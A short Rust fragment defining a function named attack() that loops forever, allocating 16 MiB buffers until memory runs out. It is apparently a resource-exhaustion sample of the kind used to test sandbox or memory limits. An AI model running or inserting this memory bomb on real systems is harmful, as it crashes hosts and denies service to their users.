fn attack() {
    let mut all: Vec<Vec<u8>> = Vec::new();
    loop {
        all.push(vec![7; 1 << 24]);
    }
}
